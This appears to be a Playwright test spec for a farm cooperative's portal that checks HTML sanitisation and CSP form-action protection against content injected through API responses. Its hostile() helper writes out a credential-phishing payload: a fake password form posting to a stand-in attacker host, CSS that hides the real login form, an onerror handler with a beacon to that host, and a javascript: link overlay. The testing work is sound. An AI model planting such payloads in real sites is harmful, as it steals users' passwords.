import type { Page, Route } from '@playwright/test';
import { expect, farms, test } from '../fixtures.js';
import { login } from './helpers.js';

/**
 * The cooperative's HTML (help texts, messages, prognosis info, the return help text) as a
 * stolen content token could write it: a second login form posting the password elsewhere, styles
 * that hide the portal's own form, handlers and script links. Each kind is rendered in Chromium
 * with the answers of its route rewritten to that HTML; only the text survives, and the browser
 * would refuse to post any form to another site (CSP form-action). On this spec's own copy of
 * 10001, whose messages it marks read.
 */
const farm = farms.cooperativeHtml;

const ATTACKER = 'https://angriper.example';

function hostile(marker: string): string {
  return (
    `<p>${marker}</p>` +
    `<form action="${ATTACKER}/samle" method="post"><label>Passord <input type="password" name="passord"></label>` +
    '<button type="submit">Logg inn her</button></form>' +
    '<style>form { display: none !important }</style>' +
    `<img src="${ATTACKER}/spor.gif" onerror="document.body.dataset.hacked = 'img'">` +
    `<a href="javascript:document.body.dataset.hacked = 'link'" style="position:fixed;inset:0">Les mer</a>`
  );
}

/** Rewrites the JSON answer of a route with `change`. */
async function rewrite(page: Page, url: string, change: (body: Record<string, unknown>) => void): Promise<void> {
  await page.route(url, async (route: Route) => {
    const response = await route.fetch();
    const body = (await response.json()) as Record<string, unknown>;
    change(body);
    await route.fulfill({ response, json: body });
  });
}

/** The marker's text shows, and nothing around it is a form, a field, a button, a style or a script. */
async function expectOnlyText(page: Page, marker: string): Promise<void> {
  const text = page.getByText(marker, { exact: true });
  await expect(text).toBeVisible();
  const content = text.locator('xpath=..');
  await expect(content.locator('form, input, button, label, style, img, script, iframe, [style], [onerror]')).toHaveCount(0);
  await expect(content.getByText('Les mer', { exact: true })).not.toHaveAttribute('href');
  await expect(page.locator(`form[action^="${ATTACKER}"]`)).toHaveCount(0);
  expect(await page.evaluate(() => document.body.dataset.hacked)).toBeUndefined();
}

/** A form made on the page that posts to another site: Chromium refuses it under the portal's CSP. */
async function expectFormsToOtherSitesRefused(page: Page): Promise<void> {
  const violated = await page.evaluate(
    (action) =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
        const form = document.createElement('form');
        form.method = 'post';
        form.action = action;
        document.body.append(form);
        form.submit();
      }),
    `${ATTACKER}/samle`,
  );
  expect(violated).toBe('form-action');
}

test.describe('the cooperative’s HTML', () => {
  test('help texts: on the anonymous login page, text only, beside the portal’s own login form', async ({ page }) => {
    await rewrite(page, '**/api/external/texts', (body) => {
      const texts = body.texts as Record<string, string>;
      texts.login_help = hostile('Hjelpetekst login_help');
    });
    await page.goto('login');
    await expectOnlyText(page, 'Hjelpetekst login_help');
    // The portal's own login form is the only one, with its one password field, and it shows.
    await expect(page.locator('form')).toHaveCount(1);
    await expect(page.locator('input[type="password"]')).toHaveCount(1);
    await expect(page.getByRole('button', { name: 'Logg inn', exact: true })).toBeVisible();
    await expectFormsToOtherSitesRefused(page);
  });

  test('messages: an opened message shows its text only', async ({ page, company }) => {
    await rewrite(page, '**/api/external/messages', (body) => {
      for (const message of body.messages as { body: string }[]) message.body = hostile('Melding fra samvirket');
    });
    await login(page, company, farm.ola);
    await page.locator('header button').filter({ hasText: /^Meldinger/ }).click();
    const inbox = page.getByRole('dialog', { name: 'Meldinger' });
    await inbox.getByRole('button', { expanded: false }).first().click();
    await expectOnlyText(page, 'Melding fra samvirket');
    await expectFormsToOtherSitesRefused(page);
  });

  test.describe('prognosis', () => {
    test.use({ prognosisPopupClosed: false });

    test('the survey’s information shows its text only (midtnorge: the survey is not offered, so neither is its text)', async ({ page, company }) => {
      await rewrite(page, '**/api/external/prognosis_registration_config', (body) => {
        (body.prognosis_config as { pigs: { info_txt_top: string } }).pigs.info_txt_top = hostile('Informasjon om prognosen');
      });
      await login(page, company, farm.ola);
      const survey = page.getByRole('dialog', { name: 'Registrering av prognose' });
      if (!company.flags.prognosisRegistration) {
        // Once the dashboard has settled (tiles drawn, requests done), no survey and no text of it.
        await expect(page.getByRole('region', { name: 'Snarveier' }).getByRole('link', { name: 'Statistikk' })).toBeVisible();
        await page.waitForLoadState('networkidle');
        await expect(survey).toHaveCount(0);
        await expect(page.getByText('Informasjon om prognosen')).toHaveCount(0);
        expect((await page.request.get('api/external/prognosis_registration_config')).status()).toBe(404);
        return;
      }
      await expect(survey).toBeVisible();
      await expectOnlyText(page, 'Informasjon om prognosen');
    });
  });

  test('Retur: the return help text shows its text only', async ({ page, company }) => {
    await rewrite(page, '**/api/external/texts', (body) => {
      (body.texts as Record<string, string>).return_form = hostile('Om retur av kjøtt og skinn');
    });
    await login(page, company, farm.ola);
    await page.goto('return-form');
    await expectOnlyText(page, 'Om retur av kjøtt og skinn');
  });
});
